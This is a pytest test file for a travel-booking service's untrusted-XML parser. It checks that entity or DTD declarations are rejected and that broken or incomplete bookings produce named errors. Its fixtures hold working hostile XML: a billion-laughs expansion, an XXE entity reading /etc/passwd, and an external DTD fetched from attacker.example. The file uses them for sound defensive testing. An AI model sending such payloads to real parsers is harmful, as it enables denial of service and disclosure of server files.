"""Untrusted XML: hostile documents are rejected unparsed, broken ones reported, fields named."""

from __future__ import annotations

import pytest

from chalicelib.domain.ota_codes import OtaCode
from chalicelib.domain.ota_results import ErrorKind
from chalicelib.ota.errors import OtaError
from chalicelib.ota.xml_support import XmlReader, parse_untrusted

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<result>&lol3;</result>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><result>&xxe;</result>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE result SYSTEM "http://attacker.example/evil.dtd"><result/>"""


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "dtd"]
)
def test_documents_declaring_entities_or_a_dtd_are_rejected_as_unsafe(payload: bytes) -> None:
    with pytest.raises(OtaError) as rejected:
        parse_untrusted(OtaCode.AGODA, payload, expected_roots={"result"})
    assert rejected.value.kind is ErrorKind.UNSAFE_PAYLOAD
    assert "Agoda sent XML declaring a DTD or entities" in rejected.value.message


@pytest.mark.parametrize(
    ("payload", "words"),
    [
        (b"", "empty response"),
        (b"<result><booking id='1'>", "malformed or truncated XML"),
        (b"not xml at all", "malformed or truncated XML"),
        (b"<html><body>Gateway</body></html>", "<html> where result was expected"),
    ],
)
def test_broken_documents_are_reported_as_malformed(payload: bytes, words: str) -> None:
    with pytest.raises(OtaError) as broken:
        parse_untrusted(OtaCode.AGODA, payload, expected_roots={"result"})
    assert broken.value.kind is ErrorKind.MALFORMED_RESPONSE
    assert words in broken.value.message


def test_a_missing_attribute_is_named_by_its_path() -> None:
    root = parse_untrusted(OtaCode.EXPEDIA, b"<Bookings><Booking type='Book'/></Bookings>", expected_roots={"Bookings"})
    reader = XmlReader(OtaCode.EXPEDIA, None)
    booking = reader.require(root, "Booking", at="Bookings")
    with pytest.raises(OtaError) as missing:
        reader.attr(booking, "id", at="Bookings/Booking[1]")
    assert missing.value.kind is ErrorKind.MISSING_FIELD
    assert missing.value.field == "Bookings/Booking[1]/@id"


def test_a_malformed_amount_is_an_invalid_field_not_a_crash() -> None:
    root = parse_untrusted(OtaCode.AGODA, b"<result><price amount='12,50'/></result>", expected_roots={"result"})
    reader = XmlReader(OtaCode.AGODA, None)
    price = reader.require(root, "price", at="result")
    with pytest.raises(OtaError) as invalid:
        reader.decimal_attr(price, "amount", at="result/price", item_id="B1")
    assert invalid.value.kind is ErrorKind.INVALID_FIELD
    assert invalid.value.item_id == "B1" and "12,50" in invalid.value.message
